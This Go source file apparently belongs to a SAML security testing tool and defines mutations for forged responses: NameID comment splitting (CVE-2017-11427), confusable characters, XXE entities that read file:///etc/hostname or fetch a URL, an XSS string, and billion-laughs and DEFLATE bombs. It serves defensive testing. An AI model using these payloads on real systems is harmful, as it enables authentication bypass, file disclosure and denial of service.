package saml

import (
	"bytes"
	"slices"
	"strconv"
	"strings"
	"unicode/utf16"

	"github.com/beevik/etree"
)

const (
	nameIDPath    = "./Subject/NameID"
	attributePath = "./AttributeStatement/Attribute/AttributeValue"
	audiencePath  = "./Conditions/AudienceRestriction/Audience"
)

// textMutations are about how a text is written. A name that is split, or looks like the stranger's, is
// genuinely signed: whoever becomes the stranger has not compared the whole of it.
func textMutations() []Mutation {
	name := func(name, about string, forge func(stranger string) string) Mutation {
		return on(name, rows("SAML-XML-11"), "the NameID is the stranger's "+about+" (Core 8.3: names are compared whole)", nameIDPath,
			func(f forgery, e *etree.Element) { e.SetText(forge(f.stranger)) })
	}
	return []Mutation{
		on("saml-comment-in-nameid", rows("SAML-XML-01"), "a comment splits the signed NameID, whose first part is the stranger's (CVE-2017-11427)", nameIDPath, split(etree.NewComment("assay"))),
		on("saml-comment-in-attribute", rows("SAML-XML-02"), "a comment splits a signed attribute value (CVE-2017-11427)", attributePath, split(etree.NewComment("assay"))),
		on("saml-comment-in-audience", rows("SAML-XML-02"), "a comment splits the audience: the part before it is right, the whole is another's (CVE-2017-11427)", audiencePath,
			func(_ forgery, e *etree.Element) { splitText(e, e.Text(), ".invalid", etree.NewComment("assay")) }),
		on("saml-comment-in-issuer", rows("SAML-XML-02"), "a comment splits the Issuer: the part before it is right, the whole is another's (CVE-2017-11427)", "./Issuer",
			func(_ forgery, e *etree.Element) { splitText(e, e.Text(), ".invalid", etree.NewComment("assay")) }),
		on("saml-instruction-in-nameid", rows("SAML-XML-03"), "a processing instruction splits the signed NameID, whose first part is the stranger's (SAML-XML-03)", nameIDPath, split(etree.NewProcInst("assay", ""))),
		{Name: "saml-cdata-in-nameid", Rows: rows("SAML-XML-04"), Text: "accept: the NameID is a CDATA section, which the signature does not tell apart (Canonical XML 1.0 section 1.1)",
			raw: rewriteNameID(func(text string) string { return "<![CDATA[" + unescape(text) + "]]>" })},
		{Name: "saml-character-reference", Rows: rows("SAML-XML-04"), Text: "accept: the NameID begins with a character reference, which the signature does not tell apart (Canonical XML 1.0 section 1.1)",
			raw: rewriteNameID(func(text string) string { return "&#" + strconv.Itoa(int(text[0])) + ";" + text[1:] })},
		name("saml-nameid-spaces", "between spaces", func(s string) string { return " " + s + " " }),
		name("saml-nameid-no-break-space", "with a no-break space", func(s string) string { return s + "\u00a0" }),
		name("saml-nameid-upper-case", "in capitals", strings.ToUpper),
		name("saml-nameid-confusable", "with a Cyrillic letter for a Latin one", confusable),
		{Name: "saml-markup-in-status", Rows: rows("SAML-XML-13"), Text: "the status is RequestDenied with a message that is markup (OWASP: escape it)",
			before: failed(statusResponder, statusRequestDenied, `<script>alert("assay")</script><img src=x onerror=alert(1)>`)},
	}
}

func split(by etree.Token) func(forgery, *etree.Element) {
	return func(f forgery, e *etree.Element) {
		if e.Tag == "NameID" {
			splitText(e, f.stranger, ".invalid", by)
			return
		}
		text := e.Text()
		splitText(e, text[:len(text)/2], text[len(text)/2:], by)
	}
}

// splitText makes the element's text two, with something between.
func splitText(e *etree.Element, first, second string, by etree.Token) {
	e.SetText(first)
	e.AddChild(by)
	e.CreateText(second)
}

// confusable puts the Cyrillic twin of a letter in its place.
func confusable(name string) string { return strings.Replace(name, "a", "\u0430", 1) }

// xmlMutations are about the document.
func xmlMutations() []Mutation {
	return []Mutation{
		document("saml-doctype", "SAML-XML-07", "the message has a document type declaration (SAML2int: none)", func(forgery) string { return "<!DOCTYPE samlp:Response>" }),
		{Name: "saml-entity", Rows: rows("SAML-XML-07"), Text: "the NameID comes from an entity of an internal subset (SAML2int: none)",
			raw: func(f forgery, raw []byte) []byte {
				subset := `<!DOCTYPE samlp:Response [<!ENTITY who "` + escape(f.stranger) + `">]>`
				return append([]byte(subset), replaceNameID(raw, "&who;")...)
			}},
		entity("saml-external-entity", "the NameID comes from an entity behind a URL", func(f forgery) string { return `<!ENTITY who SYSTEM "` + f.lure + `">` }),
		entity("saml-file-entity", "the NameID comes from a file of the service provider", func(forgery) string { return `<!ENTITY who SYSTEM "file:///etc/hostname">` }),
		document("saml-parameter-entity", "SAML-XML-05", "a parameter entity is behind a URL (OWASP XXE)",
			func(f forgery) string {
				return `<!DOCTYPE samlp:Response [<!ENTITY % assay SYSTEM "` + f.lure + `"> %assay;]>`
			}),
		{Name: "saml-not-utf8", Rows: rows("SAML-XML-08"), Text: "the message is not UTF-8 (XML 1.0 section 4.3.3)",
			raw: func(_ forgery, raw []byte) []byte { return replaceNameID(raw, "\xff\xfe") }},
		{Name: "saml-utf16", Rows: rows("SAML-XML-08"), Text: "the message is UTF-16 with a byte order mark (SAML-XML-08)",
			raw: func(_ forgery, raw []byte) []byte { return utf16Of(raw) }},
		document("saml-latin1", "SAML-XML-08", "the message declares ISO-8859-1 (SAML-XML-08)", func(forgery) string { return `<?xml version="1.0" encoding="ISO-8859-1"?>` }),
		document("saml-byte-order-mark", "SAML-XML-08", "the message begins with a byte order mark (SAML-XML-08)", func(forgery) string { return "\ufeff" }),
		{Name: "saml-nul", Rows: rows("SAML-XML-08"), Text: "a NUL stands in the NameID (XML 1.0 section 2.2: no character)",
			raw: rewriteNameID(func(text string) string { return text + "\x00.invalid" })},
		{Name: "saml-colons", Rows: rows("SAML-XML-09"), Text: "an element has two colons in its name, which a round trip through a careless parser moves (CVE-2020-29509)",
			raw: func(_ forgery, raw []byte) []byte {
				return bytes.Replace(raw, []byte("<samlp:Status>"), []byte("<samlp::Status></samlp::Status><samlp:Status>"), 1)
			}},
		{Name: "saml-colon-in-attribute", Rows: rows("SAML-XML-09"), Text: "an attribute's name begins with a colon (CVE-2020-29510)",
			raw: func(_ forgery, raw []byte) []byte {
				return bytes.Replace(raw, []byte("<samlp:Status>"), []byte(`<samlp:Status :assay="x">`), 1)
			}},
		{Name: "saml-truncated", Rows: rows("SAML-XML-10"), Text: "the message ends in the middle (XML 1.0 section 2.1)",
			raw: func(_ forgery, raw []byte) []byte { return raw[:len(raw)/2] }},
	}
}

// document puts something before the root.
func document(name, row, about string, prologue func(forgery) string) Mutation {
	return Mutation{Name: name, Rows: rows(row), Text: about, raw: func(f forgery, raw []byte) []byte {
		return append([]byte(prologue(f)), raw...)
	}}
}

func entity(name, about string, declaration func(forgery) string) Mutation {
	return Mutation{Name: name, Rows: rows("SAML-XML-05"), Text: about + " (OWASP XXE)", raw: func(f forgery, raw []byte) []byte {
		return append([]byte("<!DOCTYPE samlp:Response ["+declaration(f)+"]>"), replaceNameID(raw, "&who;")...)
	}}
}

func utf16Of(raw []byte) []byte {
	var out bytes.Buffer
	for _, unit := range utf16.Encode([]rune("\ufeff" + string(raw))) {
		out.Write([]byte{byte(unit), byte(unit >> 8)})
	}
	return out.Bytes()
}

// Sizes of what should end a careless parser's memory or time.
const (
	bombAttributes = 100_000
	bombDepth      = 10_000
	bombBytes      = 50 << 20
	bombInflated   = 1 << 30
)

// bombMutations are small messages that grow, and large ones.
func bombMutations() []Mutation {
	bomb := func(name, about string, raw func(forgery, []byte) []byte) Mutation {
		return Mutation{Name: name, Rows: rows("SAML-XML-06"), Text: about + " (CVE-2025-25293, OWASP: bound what is read)", raw: raw}
	}
	return []Mutation{
		bomb("saml-entity-expansion", "entities expand entities: a billion texts", func(_ forgery, raw []byte) []byte {
			return append([]byte("<!DOCTYPE samlp:Response ["+nestedEntities(9)+"]>"), replaceNameID(raw, "&e9;")...)
		}),
		bomb("saml-entity-quadratic", "one long entity is used ten thousand times", func(_ forgery, raw []byte) []byte {
			subset := `<!DOCTYPE samlp:Response [<!ENTITY who "` + strings.Repeat("assay", 4000) + `">]>`
			return append([]byte(subset), replaceNameID(raw, strings.Repeat("&who;", 10_000))...)
		}),
		bomb("saml-many-attributes", "an element has 100,000 attributes", func(_ forgery, raw []byte) []byte {
			var many strings.Builder
			for i := range bombAttributes {
				many.WriteString(" a" + strconv.Itoa(i) + `=""`)
			}
			return bytes.Replace(raw, []byte("<samlp:Status>"), []byte("<samlp:Status"+many.String()+">"), 1)
		}),
		bomb("saml-deep", "elements are nested 10,000 deep", func(_ forgery, raw []byte) []byte {
			deep := strings.Repeat("<samlp:Status>", bombDepth) + strings.Repeat("</samlp:Status>", bombDepth)
			return bytes.Replace(raw, []byte("<samlp:Status>"), []byte("<samlp:Extensions>"+deep+"</samlp:Extensions><samlp:Status>"), 1)
		}),
		bomb("saml-huge", "the message has 50 MiB", func(f forgery, raw []byte) []byte {
			return bytes.Replace(raw, []byte("<samlp:Status>"), []byte("<!--"+strings.Repeat("assay-", f.huge/6)+"--><samlp:Status>"), 1)
		}),
		{Name: "saml-deflate-bomb", Rows: rows("SAML-XML-06"), Text: "what is posted is DEFLATE that inflates to a gibibyte (CVE-2025-54572)",
			deliver: func(_ forgery, d *delivery) { d.setText(inflatesTo(bombInflated)) }},
	}
}

// nestedEntities declares entities e0 to eN, each ten times the one before.
func nestedEntities(n int) string {
	out := `<!ENTITY e0 "assay">`
	for i := 1; i <= n; i++ {
		out += `<!ENTITY e` + strconv.Itoa(i) + ` "` + strings.Repeat("&e"+strconv.Itoa(i-1)+";", 10) + `">`
	}
	return out
}

// rewriteNameID changes how the NameID is written.
func rewriteNameID(rewrite func(string) string) func(forgery, []byte) []byte {
	return func(_ forgery, raw []byte) []byte {
		start, end := nameIDText(raw)
		if start < 0 {
			return raw
		}
		return slices.Concat(raw[:start], []byte(rewrite(string(raw[start:end]))), raw[end:])
	}
}

func replaceNameID(raw []byte, text string) []byte {
	return rewriteNameID(func(string) string { return text })(forgery{}, raw)
}

// nameIDText is where the text of the first NameID begins and ends, or -1.
func nameIDText(raw []byte) (start, end int) {
	from := bytes.Index(raw, []byte("<saml:NameID"))
	if from < 0 {
		return -1, -1
	}
	start = from + bytes.IndexByte(raw[from:], '>') + 1
	return start, start + bytes.IndexByte(raw[start:], '<')
}

func escape(text string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;", "%", "&#37;").Replace(text)
}

func unescape(text string) string {
	return strings.NewReplacer("&lt;", "<", "&gt;", ">", "&quot;", `"`, "&amp;", "&").Replace(text)
}
